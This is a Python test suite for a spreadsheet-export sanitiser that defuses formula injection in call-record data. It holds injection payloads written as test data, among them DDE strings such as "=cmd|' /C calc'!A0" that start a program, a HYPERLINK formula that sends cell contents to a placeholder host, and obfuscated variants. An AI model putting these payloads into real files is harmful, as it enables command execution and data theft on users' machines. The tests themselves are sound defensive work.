"""No text starts a formula, and none that is harmless is touched."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from aiosipcdr.export.spreadsheet import spreadsheet_text

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "=2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    '+cmd|" /C calc"!A0',
    "+12125550123+cmd",
    "+44 7700 900123",
    "+1234567890123456",
    "+12345",
    "+86*********00",
    "-12125550123",
    "\tharmless",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "\x01=1+1",
    "\0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "=",
    "+",
    "-",
    "@",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_never_starts(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text.replace("\0", "")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("x;=1+1", "x;'=1+1"),
        ("x\t@SUM(1)", "x\t'@SUM(1)"),
        ("x\n=1+1\r\n-2", "x\n'=1+1\r\n'-2"),
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("x; =1+1", "x;' =1+1"),
        ("=a;=b", "'=a;'=b"),
        ('x;"=1+1', "x;'\"=1+1"),
    ],
)
def test_nor_where_a_field_would_begin_if_semicolons_split_fields(text: str, shown: str) -> None:
    assert spreadsheet_text(text) == shown


@pytest.mark.parametrize(
    "text",
    ["2610241209441000001", "1234567890123456", "07700900123", "0012125550123", "00", "12E3", "1.5e10", "261024e1"],
)
def test_digits_that_would_be_shown_as_others_become_text(text: str) -> None:
    assert spreadsheet_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "+12125550123",
        "+447700900123",
        "+123456",
        "+123456789012345",
        "12125550123",
        "123456789012345",
        "200",
        "0",
        "60+60",
        "20+20",
        "Afghanistan(Kandahar)",
        "Berlin, -East",
        "a=b",
        "E164",
        "it's",
        "客服一组",
        "sip:100@example.invalid",
        "two\nlines",
        "",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert spreadsheet_text(text) == text


signs = st.text(st.sampled_from("=+-@\t\r\n;, \"'0123456789aE*\0\ufeff\uff1d"), max_size=12)
STARTS = re.compile(r"[\s\ufeff\"]*[=+\-@\uff1d]")


@given(signs | st.text(st.characters(exclude_categories=["Cs"])))
def test_no_field_of_any_reading_starts_a_formula_and_nothing_else_is_changed(text: str) -> None:
    shown = spreadsheet_text(text)
    for field in re.split(r"[;\t\r\n]", shown):
        assert not STARTS.match(field) or re.fullmatch(r"\+[0-9]{6,15}", shown)
    assert shown.replace("'", "") == text.replace("'", "").replace("\0", "")
    assert not shown or shown[0] not in "\t\r\n"
